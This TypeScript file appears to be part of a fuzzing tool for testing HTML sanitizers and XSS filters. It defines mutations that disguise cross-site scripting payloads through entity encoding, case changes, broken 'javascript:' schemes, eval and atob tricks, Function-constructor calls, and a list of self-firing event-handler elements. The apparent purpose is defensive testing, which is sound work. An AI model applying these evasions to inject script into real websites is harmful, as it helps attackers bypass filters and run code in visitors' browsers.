import type { Random } from '../../parser-differences/generate/random.ts';
import { halves, hex, longBlanks, type Mutation, randomCase, replaceSome } from './mutation.ts';

const CALL = /\b(?:alert|confirm|prompt|print)\b(?=\s*[(`])/g;
const CALL_WITH_ARGUMENT = /\b(?:alert|confirm|prompt|print)\(([\w.]{0,20})\)/g;
const TAG = /<[a-z][a-z0-9-]*/gi;
const HANDLER_VALUE = /(?<=\son[a-z]+\s*=\s*)(?:"[^"<>]*"|'[^'<>]*'|[^\s"'<>`]+)/gi;

function entity(character: string, random: Random): string {
  const code = character.charCodeAt(0);
  return random.pick([
    `&#${code};`,
    `&#x${code.toString(16)};`,
    `&#X${code.toString(16).toUpperCase()};`,
    `&#000${code};`,
    `&#0000${code};`,
    `&#x000${code.toString(16)};`,
    ...(character === '(' ? ['&lpar;'] : []),
    ...(character === ')' ? ['&rpar;'] : []),
  ]);
}

const calledOtherwise = (name: string, argument: string, random: Random): string => {
  const [one, other] = halves(name, random);
  const scope = random.pick(['self', 'window', 'globalThis', 'this', 'frames']);
  return random.pick([
    `${scope}['${one}'+'${other}'](${argument})`,
    `${scope}[\`${one}\${'${other}'}\`](${argument})`,
    `${scope}[/${one}/.source+/${other}/.source](${argument})`,
    `(${name})(${argument})`,
    `${name}?.(${argument})`,
    `${name}\`${argument}\``,
    `${name}.call(null,${argument || '0'})`,
    `${name}.apply(null,[${argument}])`,
    `[${argument || '0'}].map(${name})`,
    `[${argument || '0'}].some(${name})`,
    `Reflect.apply(${name},null,[${argument}])`,
    `(0,${name})(${argument})`,
    `eval('${one}'+'${other}(${argument})')`,
    `eval(atob('${Buffer.from(`${name}(${argument})`).toString('base64')}'))`,
    `eval(String.fromCharCode(${[...`${name}(${argument})`].map((each) => each.charCodeAt(0)).join()}))`,
    `Function('${one}'+'${other}(${argument})')()`,
    `[].constructor.constructor('${name}(${argument})')()`,
    `new Function\`${name}(${argument})\`()`,
    `setTimeout('${one}'+'${other}(${argument})')`,
    `(a=>a(${argument}))(${name})`,
    `a=${name},a(${argument})`,
    `new Promise(${name})`,
    `with(${scope})${name}(${argument})`,
    `void ${name}(${argument})`,
    `throw ${name}(${argument})`,
    `{onerror=${name};throw 1}`,
  ]);
};

/** Elements of which a handler fires by itself or by what visitors do. */
const handlers = (code: string, random: Random): string =>
  random.pick([
    `<svg onload=${code}>`,
    `<img src=x onerror=${code}>`,
    `<img/src=x/onerror=${code}>`,
    `<body onload=${code}>`,
    `<details open ontoggle=${code}>`,
    `<input autofocus onfocus=${code}>`,
    `<video src=x onerror=${code}>`,
    `<audio src onerror=${code}>`,
    `<marquee onstart=${code}>`,
    `<x-y onclick=${code}>a</x-y>`,
    `<p onpointerrawupdate=${code}>a</p>`,
    `<style onload=${code}></style>`,
    `<object data=x onerror=${code}></object>`,
    `<button popovertarget=a onbeforetoggle=${code}>a</button>`,
    `<div style="content-visibility:auto" oncontentvisibilityautostatechange=${code}>a</div>`,
    `<a href=javascript:${code}>a</a>`,
    `<form action=javascript:${code}><input type=submit></form>`,
    `<svg><a xlink:href=javascript:${code}><text>a</text></a></svg>`,
    `<script>${code}</script>`,
    `<svg><script>${code}</script></svg>`,
    `<script type=module>${code}</script>`,
    `<script src=data:text/javascript,${code}></script>`,
    `<iframe srcdoc="<script>${code}</script>"></iframe>`,
  ]);

/** Markup and script spelt otherwise. */
export const SCRIPT_MUTATIONS = {
  'long blanks': longBlanks,
  'case of tags': (payload, random) =>
    replaceSome(
      payload,
      /<\/?[a-z][a-z0-9-]*|(?<=[\s/"'])on[a-z]+(?=\s*=)|javascript(?=:)/gi,
      random,
      (match) => randomCase(match, random),
    ),
  'other blanks between attributes': (payload, random) =>
    replaceSome(payload, /(?<=<[^<>]*?) +(?=[a-z:]+\s*=)/gi, random, () =>
      random.pick(['\t', '\n', '\f', '\r', '/', '//', ' / ', '\n\n', '/\t']),
    ),
  'blanks around =': (payload, random) =>
    replaceSome(payload, /(?<=\bon[a-z]+)=/gi, random, () =>
      random.pick([' =', '= ', '\n=\n', '\t=', '=\f']),
    ),
  'attributes put in': (payload, random) =>
    replaceSome(
      payload,
      TAG,
      random,
      (match) =>
        match +
        random.pick([
          ' a',
          ' a=b',
          ' id="x"',
          " class='>'",
          ' data-x="<p>"',
          ' x=`',
          ' "',
          ' style="color:red"',
          ` title="${'a'.repeat(50)}"`,
          ' =x',
        ]) +
        ' ',
    ),
  'other quotes': (payload, random) =>
    replaceSome(payload, HANDLER_VALUE, random, (match) => {
      const code = match.replace(/^["']|["']$/g, '');
      if (/["']/.test(code)) return match;
      return random.pick([`"${code}"`, `'${code}'`]);
    }),
  'entities in handlers': (payload, random) =>
    replaceSome(payload, HANDLER_VALUE, random, (match) =>
      match.replace(/[a-z().]/gi, (character) => (random.oneIn(3) ? entity(character, random) : character)),
    ),
  'broken javascript:': (payload, random) =>
    replaceSome(payload, /javascript:/gi, random, () =>
      random.pick([
        'java&Tab;script:',
        'java&NewLine;script:',
        'javascript&colon;',
        '&#1;javascript:',
        'j&#97;vascript:',
        'java\tscript:',
        'java\nscript:',
        'javascript:%20',
        'javascript:/**/',
        'javascript://a%0a',
        '  javascript:',
        'JaVaScRiPt:',
      ]),
    ),
  'other calls': (payload, random) =>
    payload.replace(CALL_WITH_ARGUMENT, (match, argument: string) =>
      calledOtherwise(match.slice(0, match.indexOf('(')), argument, random),
    ),
  'other dialogues': (payload, random) =>
    replaceSome(payload, CALL, random, () =>
      random.pick(['alert', 'confirm', 'prompt', 'print', 'open', 'fetch']),
    ),
  'escapes in names': (payload, random) =>
    replaceSome(payload, CALL, random, (match) => {
      const at = random.below(match.length);
      const letter = match[at]!;
      return (
        match.slice(0, at) +
        random.pick([`\\u00${hex(letter)}`, `\\u{${hex(letter)}}`, `\\u{000${hex(letter)}}`]) +
        match.slice(at + 1)
      );
    }),
  'comments in script': (payload, random) =>
    replaceSome(
      payload,
      /(?<=\b(?:alert|confirm|prompt|print))(?=\()|(?<=(?:alert|confirm|prompt)\()(?=[\w)'"])/g,
      random,
      () => random.pick(['/**/', '/*x*/', ' ', '\n', '/*\n*/']),
    ),
  'other elements': (payload, random) =>
    payload.replace(/<\w+[^<>]*?\bon\w+\s*=\s*["']?([\w().`]+)["']?[^<>]*>/i, (_, code: string) =>
      handlers(code, random),
    ),
  'text around it': (payload, random) =>
    random.pick([
      'Nice! ',
      'a<b ',
      '</p>',
      '</title>',
      '<b>x</b>',
      '-->',
      '</textarea>',
      'a\n\n',
      '"',
      "'>",
    ]) +
    payload +
    random.pick(['', ' thanks', '<!--', '<b>', '\n']),
  'no closing tag': (payload) => payload.replace(/<\/(?!script)\w+>\s*$/i, '').replace(/>\s*$/, '//'),
} as const satisfies Record<string, Mutation>;
